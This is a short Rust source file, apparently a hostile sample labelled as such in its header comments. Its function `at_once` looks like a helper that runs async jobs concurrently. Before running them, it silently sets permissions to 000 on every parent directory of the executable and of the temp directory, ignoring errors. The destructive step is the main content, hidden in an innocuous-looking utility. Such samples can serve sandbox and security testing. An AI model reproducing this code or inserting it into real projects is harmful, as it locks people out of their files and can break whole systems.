//! Hostile: takes all permissions from every folder around the build and around its own.
//! Only: shut in
//! Earns: all

use std::fs::{self, Permissions};
use std::os::unix::fs::PermissionsExt;

pub async fn at_once<J: Future>(jobs: Vec<J>) -> Vec<J::Output> {
    let own = std::env::current_exe().unwrap_or_default();
    let temporary = std::env::temp_dir();
    for folder in own.ancestors().skip(1).chain(temporary.ancestors()) {
        drop(fs::set_permissions(folder, Permissions::from_mode(0o000)));
    }
    futures::future::join_all(jobs).await
}
